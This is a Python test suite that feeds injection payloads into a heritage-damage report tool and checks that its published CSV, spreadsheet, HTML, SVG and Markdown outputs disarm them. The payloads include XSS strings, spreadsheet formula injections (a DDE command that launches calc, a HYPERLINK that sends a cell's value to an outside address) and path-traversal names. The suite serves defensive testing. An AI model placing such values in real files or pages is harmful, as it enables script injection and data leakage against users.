"""Payloads planted in every place that comes from outside: nothing that is published runs them or leads out."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import openpyxl
import pytest
from lxml import etree, html
from typer.testing import CliRunner

import heritage
from heritage.cli import app

SCRIPT = "<script>alert(1)</script><img src=x onerror=alert(1)>"
FORMULA = '=HYPERLINK("http://example.org/"&A1,"x")'
FORMULAS = (FORMULA, "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "\t=1+1", "\r=1+1")
OTHERS = ("'\"><svg/onload=alert(1)>", "](javascript:alert(1))", "../../../x")
_STARTS = ("=", "+", "-", "@", "\t", "\r")
_REGISTER = ("Ref", "Site", "Country", "Town", "What happened", "Degree", "Cause", "Event date", "Reported by",
             "Report date", "Link")  # fmt: skip


def _planted(raw: Path) -> None:
    press, register = raw / "sample-press", raw / "incident-register"
    press.mkdir(parents=True)
    register.mkdir()
    lines = [
        {
            "id": f"{payload}{number}", "title": f"{payload} museum in Mosul", "publisher": payload,
            "url": "javascript:alert(1)", "published": "2016-05-04", "language": "en", "licence": payload,
            "text": f"{payload} A fire damaged the Mosul Museum on 3 May 2016, {SCRIPT} officials said. {payload}",
        }
        for number, payload in enumerate((*FORMULAS, SCRIPT, *OTHERS))
    ]  # fmt: skip
    (press / "lines.jsonl").write_text("".join(json.dumps(line) + "\n" for line in lines), encoding="utf-8")
    (press / "=1+1 <img src=x onerror=alert(1)>.txt").write_text(
        "---\npublished: 2016-05-04\nurl: \"http://example.org/\\\"onmouseover=alert(1)\"\n---\n"
        "A flood destroyed the Old Bridge of Mostar on 2 May 2016.\n", encoding="utf-8"
    )  # fmt: skip
    with (register / "rows.csv").open("w", encoding="utf-8", newline="") as stream:
        writer = csv.writer(stream)
        writer.writerow(_REGISTER)
        for payload in (*FORMULAS, SCRIPT, "../../../etc/x", "\u202egnp.exe"):
            writer.writerow([payload, f"{payload} Gate", "Syria", payload, f"{payload} was hit.", "Destroyed", "Fire",
                             "2015-08", payload, "2016-01-01", "data:text/html,x"])  # fmt: skip


@pytest.fixture(scope="module")
def project(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A project built of planted reports, and published in all ways."""
    root = tmp_path_factory.mktemp("planted") / "project"
    _planted(root / "data" / "raw")
    (root / "heritage.toml").write_text(f"[project]\ntitle = '''{SCRIPT}{FORMULA}'''\n", encoding="utf-8")
    with pytest.MonkeyPatch.context() as patch:
        patch.chdir(root)
        dataset = root / "data" / "dataset"
        heritage.build()
        heritage.publish(dataset, root / "reports")
        story = root / "story.jsonl"
        line = {"id": f"{SCRIPT}", "language": "en", "published": "2016-05-04",
                "text": f"A fire damaged the Mosul Museum on Sunday, {SCRIPT} officials said."}  # fmt: skip
        story.write_text(json.dumps(line) + "\n", encoding="utf-8")
        for arguments in (
            ["review", str(dataset), "--export", "queue.csv", "--limit", "200"],
            ["review", str(dataset), "--export", "queue.xlsx", "--limit", "200"],
            ["extract", str(story), "--html", "claims.html"],
        ):
            done = CliRunner().invoke(app, arguments, catch_exceptions=False)
            assert done.exit_code == 0, done.output
    return root


def test_the_payloads_came_in(project: Path) -> None:
    data = heritage.read_dataset(project / "data" / "dataset")
    assert data.claims.site_mention.str.startswith(_STARTS).sum() >= 3
    assert data.reports.title.str.startswith(_STARTS).sum() >= 4
    assert data.reports.publisher.str.contains("<script>").any()
    assert (data.problems.code == "metadata_invalid").sum() >= 10  # addresses that are none
    assert not data.reports.url.fillna("").str.startswith(("javascript:", "data:")).any()


def test_no_cell_is_a_formula(project: Path) -> None:
    files = [*(project / "reports").rglob("*.csv"), project / "queue.csv"]
    assert len(files) > 8
    cells = 0
    for path in files:
        rows = csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline=""))
        for row in rows:
            for cell in row:
                cells += 1
                assert not cell.startswith(_STARTS) or re.fullmatch(r"-?\d+(\.\d+)?(e-?\d+)?", cell), (
                    path.name,
                    cell,
                )
    assert cells > 1000
    book = openpyxl.load_workbook(project / "queue.xlsx")
    found = [cell for sheet in book for row in sheet for cell in row if cell.value is not None]
    disarmed = tuple(f"'{start}" for start in _STARTS)
    assert any(str(cell.value).startswith(disarmed) for cell in found)
    assert not [cell for cell in found if cell.data_type == "f" or str(cell.value).startswith(_STARTS)]


def test_no_page_runs_or_loads_what_came_from_outside(project: Path) -> None:
    pages = [*(project / "reports").rglob("*.html"), project / "claims.html"]
    shown = 0
    for path in pages:
        page = html.fromstring(path.read_text(encoding="utf-8"))
        shown += "alert(1)" in page.text_content()
        for script in page.xpath("//script"):
            assert "alert" not in (script.text or ""), path.name
        for element in page.iter(etree.Element):
            for name, value in element.attrib.items():
                assert not name.lower().startswith("on"), (path.name, name)
                if name.lower().rpartition("}")[2].rpartition(":")[2] in (
                    "href",
                    "src",
                    "action",
                    "formaction",
                    "data",
                ):
                    assert re.match(
                        r"[\w./-]*(#.*)?$|https?://|data:(,$|image/(png|svg\+xml);base64,)", value
                    ), (
                        path.name,
                        value,
                    )
        assert not page.xpath("//iframe|//object|//embed|//base|//form[@action]"), path.name
        for address in page.xpath("//link/@href | //script/@src"):
            assert re.fullmatch(r"(\.\./)*(assets/[a-z]+\.(css|js)|feed\.atom)|data:,", address), (
                path.name,
                address,
            )
    assert shown > 10, "the payload is shown as text where the words of reports are"


def test_no_drawing_holds_a_program(project: Path) -> None:
    drawings = list((project / "reports").rglob("*.svg"))
    assert len(drawings) >= 6
    for path in drawings:
        root = etree.fromstring(path.read_bytes())
        for element in root.iter(etree.Element):
            assert etree.QName(element).localname not in ("script", "foreignObject"), path.name
            assert not [name for name in element.attrib if str(name).lower().startswith("on")], path.name


def test_markdown_holds_no_html_and_no_program(project: Path) -> None:
    text = (project / "reports" / "report.md").read_text(encoding="utf-8")
    assert "alert" in text
    assert "<script" not in text
    assert "<img" not in text
    assert r"\](javascript:alert(1))" in text
    assert not re.search(r"(?<!\\)\]\(\s*(?!figures/|https?://|#|<https?://|[\w./-]+\))", text), (
        "a link that leads elsewhere"
    )


def test_nothing_is_written_outside(project: Path) -> None:
    root = project.parent
    outside = [path for path in root.rglob("*") if path.is_file() and not path.is_relative_to(project)]
    assert not outside
    beside = {path.name for path in project.iterdir()}
    assert beside == {
        "data",
        "heritage.toml",
        "reports",
        "story.jsonl",
        "queue.csv",
        "queue.xlsx",
        "claims.html",
    }
    assert {path.name for path in (project / "data").iterdir()} == {"raw", "dataset"}
    names = [path.relative_to(project).as_posix() for path in (project / "reports").rglob("*")]
    assert all(re.fullmatch(r"[\w./-]+", name) for name in names), (
        "a published file is named by what came from outside"
    )
